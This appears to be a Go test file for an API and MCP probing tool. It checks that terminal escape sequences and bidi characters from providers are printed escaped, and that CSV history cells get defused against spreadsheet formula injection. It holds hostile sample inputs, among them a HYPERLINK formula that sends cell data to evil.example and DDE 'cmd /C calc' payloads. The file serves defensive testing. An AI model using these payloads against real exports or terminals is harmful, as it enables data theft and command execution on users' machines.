package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/toolpulse/toolpulse/consumers"
	"github.com/toolpulse/toolpulse/results"
	"github.com/toolpulse/toolpulse/results/sqlite"
)

// hostileText is what a provider puts in its answer so that a rule's
// fail() message quotes it: clear the screen, set the window title,
// return to the start of the line and claim success, and reverse what
// follows.
const hostileText = "\x1b[2J\x1b]0;pwned\x07\rALL PROBES PASS \u202eSSAP\u202c \u2066x\u2069"

// hostileConfig fails every run with a message that is the provider's
// text, as the README's fail("…", "… " + type(…)) examples build theirs.
const hostileConfig = `version: 1
storage: {path: results.db}
defaults:
  timeout: 2s
  retries: {max_attempts: 1}
consumers:
  - name: states
    version: "1"
    select: 'fail("bad_state", "state is " + response.state)'
probes:
  - name: orders
    request: {url: "${PROVIDER}/orders"}
    consumer: states
`

// TestHostileTextStaysPrintable: a provider's escape sequences reach the
// terminal of no table: check, history (attempt rows too), stats and
// silence list show them as visible escapes, while JSON keeps the text
// exact.
func TestHostileTextStaysPrintable(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string]string{"state": hostileText})
	}))
	t.Cleanup(srv.Close)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "checks.yaml"), []byte(hostileConfig), 0o644); err != nil {
		t.Fatal(err)
	}
	h := &cliRun{t: t, dir: dir, env: map[string]string{"PROVIDER": srv.URL}}

	code, checkOut, errOut := h.run("check")
	if code != exitContractError {
		t.Fatalf("check: exit %d, want %d\n%s%s", code, exitContractError, checkOut, errOut)
	}
	if code, out, errOut := h.run("silence", "add", "--probe", "orders", "--for", "1h", "--reason", hostileText); code != exitOK {
		t.Fatalf("silence add: exit %d\n%s%s", code, out, errOut)
	}
	// An MCP run whose tool and server carry the text too, for the TOOL
	// column of stats and history: a database is whatever wrote it.
	store, err := sqlite.Open(context.Background(), filepath.Join(dir, "results.db"))
	if err != nil {
		t.Fatal(err)
	}
	at := time.Now().Add(-time.Minute)
	err = store.Record(context.Background(), results.Result{OperationID: "op-mcp", Probe: "tool_probe", StartedAt: at,
		Duration: time.Millisecond, Outcome: results.ContractError, Kind: results.ProbeMCP,
		MCP:   &results.MCPTarget{Server: "http://127.0.0.1:1/mcp" + hostileText, Tool: "get" + hostileText},
		Error: results.NewError(results.CodeToolInput, "%s", hostileText),
		Attempts: []results.Attempt{{Number: 1, StartedAt: at, Duration: time.Millisecond, HTTPStatus: 200,
			Method: "tools/call", Code: results.CodeToolInput, Message: "server says " + hostileText}}})
	if cerr := store.Close(); err != nil || cerr != nil {
		t.Fatal(err, cerr)
	}

	tests := []struct {
		name string
		args []string
		// escapes is how many times the output shows the text, escaped
		// (a contract error's attempt row has no message of its own).
		escapes int
	}{
		{"check", nil, 1},
		{"history", []string{"history"}, 4},                          // orders' message; tool_probe's tool, server and message
		{"history --attempts", []string{"history", "--attempts"}, 5}, // and the exchange tool_probe's attempt row blames
		{"stats", []string{"stats"}, 2},                              // tool_probe's tool and server
		{"silence list", []string{"silence", "list"}, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := checkOut
			if tt.args != nil {
				var code int
				code, out, errOut = h.run(tt.args...)
				if code != exitOK {
					t.Fatalf("exit %d\n%s%s", code, out, errOut)
				}
			}
			for i, r := range out {
				if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
					t.Errorf("byte %d is %U, a character a terminal acts on or that reorders text:\n%q", i, r, out)
					break
				}
			}
			if n := strings.Count(out, `\x1b[2J\x1b]0;pwned\x07 ALL PROBES PASS \u202eSSAP\u202c \u2066x\u2069`); n != tt.escapes {
				t.Errorf("the text shows, escaped, %d times, want %d:\n%s", n, tt.escapes, out)
			}
		})
	}

	// JSON is escaped by encoding/json: the text comes back exact.
	code, out, _ := h.run("history", "--format", "json", "--probe", "orders")
	var row struct{ Message string }
	if err := json.Unmarshal([]byte(out), &row); code != exitOK || err != nil || row.Message != "state is "+hostileText {
		t.Errorf("history --format json: exit %d, err %v, message %q; want %q", code, err, row.Message, "state is "+hostileText)
	}
}

// TestTestReportStaysPrintable: the test report quotes a rule's messages
// and, with --from-db, a provider's recorded answer (its keys name the
// mutations, its values are in the diff lines): printable too.
func TestTestReportStaysPrintable(t *testing.T) {
	report := &testReport{Consumers: []consumerReport{{Name: "states", Version: "1", Source: "checks.yaml",
		Fixtures: []fixtureReport{{Name: "paid", Expected: "pass", Outcome: results.ContractError, Code: "bad_state",
			Message: "state is " + hostileText, Mismatch: "want pass"}},
		Mutation: &mutationReport{MutationReport: consumers.MutationReport{
			Bases: []string{"latest recorded"}, Total: 2, Killed: 1,
			Skipped:        map[string]string{"older": "it does not pass: bad_state: state is " + hostileText},
			KilledControls: []string{"add_field " + hostileText},
			Survivors: []consumers.Survivor{{Base: "latest recorded", Class: consumers.BlindSpot,
				Mutation: consumers.Mutation{Name: "remove_field " + hostileText},
				Diff:     []string{"- " + hostileText + ": string"}, Why: "the rule never reads " + hostileText}}}}}}}
	var buf bytes.Buffer
	if err := writeTestTable(&buf, report, false); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for i, r := range out {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
			t.Fatalf("byte %d is %U, a character a terminal acts on or that reorders text:\n%q", i, r, out)
		}
	}
	if n, want := strings.Count(out, `\x1b[2J\x1b]0;pwned\x07 ALL PROBES PASS \u202eSSAP\u202c \u2066x\u2069`), 6; n != want {
		t.Errorf("the text shows, escaped, %d times, want %d:\n%s", n, want, out)
	}
}

// TestCSVCellsAreNotFormulas: a text cell of history --format csv that a
// spreadsheet would read as a formula starts with a single quote; numbers,
// timestamps and other text are written as they are.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	tests := []struct{ message, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"open")`, `'=HYPERLINK("http://evil.example/?"&A1,"open")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"state is =1+1", "state is =1+1"},
	}
	at := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
	var rows []results.Result
	for i, tt := range tests {
		rows = append(rows, results.Result{OperationID: fmt.Sprintf("op-%d", i), Probe: "orders", StartedAt: at,
			Duration: 42 * time.Millisecond, Outcome: results.ContractError, HTTPStatus: 200, Kind: results.ProbeMCP,
			MCP:   &results.MCPTarget{Server: "http://127.0.0.1:1/mcp", Tool: tt.message},
			Error: results.NewError("bad_state", "%s", tt.message)})
	}
	var buf bytes.Buffer
	if err := writeHistoryCSV(&buf, rows); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(records) != len(tests)+1 {
		t.Fatalf("csv: err %v, %d records, want %d", err, len(records), len(tests)+1)
	}
	col := map[string]int{}
	for i, name := range records[0] {
		col[name] = i
	}
	for i, tt := range tests {
		rec := records[i+1]
		for _, name := range []string{"message", "mcp_tool"} {
			if got := rec[col[name]]; got != tt.want {
				t.Errorf("%s cell of %q = %q, want %q", name, tt.message, got, tt.want)
			}
		}
		if got := rec[col["started_at"]]; got != results.FormatTime(at) {
			t.Errorf("started_at = %q, want %q", got, results.FormatTime(at))
		}
		if got := rec[col["duration_ms"]]; got != "42" {
			t.Errorf("duration_ms = %q, want 42", got)
		}
	}
}
